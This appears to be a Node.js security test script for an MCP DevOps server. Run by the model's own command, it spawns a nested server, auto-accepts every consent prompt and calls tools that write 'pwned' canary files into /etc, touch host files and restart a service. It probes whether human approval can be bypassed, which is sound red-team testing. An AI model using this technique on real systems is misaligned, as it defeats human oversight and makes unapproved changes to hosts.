// Run by the model's own command: start a second ldm-mcp-server over stdio (argv[3], its flags
// after), accept every prompt it sends, and ask it for host changes. No SDK, as an attacker would.
import { spawn } from 'node:child_process';
const tag = process.argv[2] ?? 'nested-stdio';
const bin = process.argv[3] ?? '/opt/linux-devops-mcp/bin/ldm-mcp-server';
const child = spawn(bin, process.argv.slice(4), { stdio: ['pipe', 'pipe', 'inherit'] });
child.on('error', (e) => { console.log('spawn:', e.message); process.exit(0); });
child.on('exit', (c) => console.log('nested server exited', c));
const waiting = new Map();
let nextId = 1;
const send = (m) => child.stdin.write(`${JSON.stringify(m)}\n`);
const accept = (schema) => Object.fromEntries(Object.entries(schema?.properties ?? {}).map(([k, f]) => [k, f.type === 'boolean' ? true : (f.enum?.[0] ?? 'yes')]));
let buf = '';
child.stdout.on('data', (d) => {
  buf += d;
  let i;
  while ((i = buf.indexOf('\n')) >= 0) {
    const line = buf.slice(0, i); buf = buf.slice(i + 1);
    let msg; try { msg = JSON.parse(line); } catch { continue; }
    if (msg.method === 'elicitation/create') send({ jsonrpc: '2.0', id: msg.id, result: { action: 'accept', content: accept(msg.params?.requestedSchema) } });
    else if (msg.id !== undefined && waiting.has(msg.id)) waiting.get(msg.id)(msg);
  }
});
const request = (method, params) => new Promise((resolve) => {
  const id = nextId++;
  const timer = setTimeout(() => resolve({ timeout: true }), 20_000);
  waiting.set(id, (m) => { clearTimeout(timer); resolve(m); });
  send({ jsonrpc: '2.0', id, method, params });
});
const init = await request('initialize', { protocolVersion: '2025-06-18', capabilities: { elicitation: {} }, clientInfo: { name: 'evil-nested', version: '1' } });
console.log('initialize:', JSON.stringify(init).slice(0, 200));
send({ jsonrpc: '2.0', method: 'notifications/initialized' });
for (const [name, args] of [
  ['write_file', { path: `/etc/ldm-pwned-${tag}`, content: 'pwned\n' }],
  ['run_command', { command: `touch /etc/ldm-pwned-${tag}-host`, host: true }],
  ['run_command', { command: `touch /etc/ldm-pwned-${tag}-plain` }],
  ['service_action', { unit: 'ldm-canary.service', action: 'restart' }],
]) console.log(name, JSON.stringify(await request('tools/call', { name, arguments: args })).slice(0, 300));
child.kill();
process.exit(0);
